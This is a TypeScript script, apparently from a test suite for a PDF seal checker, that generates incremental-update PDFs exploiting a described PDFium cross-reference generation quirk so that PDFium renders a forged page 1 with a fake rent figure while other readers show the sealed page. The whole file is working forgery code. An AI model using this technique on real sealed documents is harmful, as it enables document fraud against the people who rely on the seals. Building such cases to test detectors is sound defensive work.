// a23: PDFium's CPDF_CrossRefTable::AddNormal ignores an entry whose generation is LOWER than the one it holds
// (`if (info.gennum > gen_num) return;`), applying sections oldest first; every other reader takes the newest
// section's entry whatever its generation. Two table updates on the broker's real archive:
//   U1: page 1 re-defined as `4 1 obj` (a forged page: a new content stream, "Husleje: 1 kr."), listed at generation 1;
//   U2: page 1 listed again at generation 0: at its sealed offset (mode sealed) or a verbatim copy (mode copy).
// sealcheck, poppler, pdf.js, qpdf: the newest entry, page 1 as sealed. PDFium keeps generation 1: U1's page.
// mode u1: U1 only (the control: what sealcheck must see of U1 alone).
//   npx tsx scripts/attack-s18/gen-rule.ts <sealed|copy|u1>   REAL=0 for samples/valid
import { serialize } from "../../src/augment/writer.js";
import { NumberAllocator } from "../../src/augment/writer.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, tool, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "../attack-s16/lib.js";

const mode = process.argv[2] ?? "sealed";
if (!["sealed", "copy", "u1"].includes(mode)) throw new Error("usage: <sealed|copy|u1>");
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const page = walkPages(view)[0]!;
const P = page.ref!.num;
const sealedEntry = doc.revisions.at(-1)!.entries.find((e) => e.num === P)!;
if (sealedEntry.type !== "offset") throw new Error("page 1 is not a top-level object");
const B = new NumberAllocator(doc).take();
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
const entry = (off: number, gen: number) => `${String(off).padStart(10, "0")} ${String(gen).padStart(5, "0")} n \n`;
const content = "1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET";
const forgedPage = `<< ${p.kept.join(" ")} /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
const offP1 = at;
push(latin(`${P} 1 obj\n${forgedPage}\nendobj\n`));
const offB = at;
push(latin(`${B} 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`));
const x1 = at;
push(
  latin(
    `xref\n${P} 1\n${entry(offP1, 1)}${B} 1\n${entry(offB, 0)}trailer\n<< /Size ${B + 1} ${carried.join(" ")} /Prev ${sealedEntry ? doc.revisions.at(-1)!.startxref : 0} >>\nstartxref\n${x1}\n%%EOF\n`,
  ),
);
if (mode !== "u1") {
  let off = sealedEntry.offset;
  if (mode === "copy") {
    off = at;
    push(latin(`${P} 0 obj\n<< ${[...p.kept, ...p.sealedTail].join(" ")} >>\nendobj\n`));
  }
  const x2 = at;
  push(latin(`xref\n${P} 1\n${entry(off, 0)}trailer\n<< /Size ${B + 1} ${carried.join(" ")} /Prev ${x1} >>\nstartxref\n${x2}\n%%EOF\n`));
}
const file = save(work(`s18-gen-rule-${mode}`), "archive.pdf", Uint8Array.from(parts.flat()));
judge(`gen-rule ${mode}`, file);
console.log(`== qpdf page ${P}: ${JSON.stringify(tool("qpdf", ["--show-object=" + P, file]).slice(0, 120))}`);
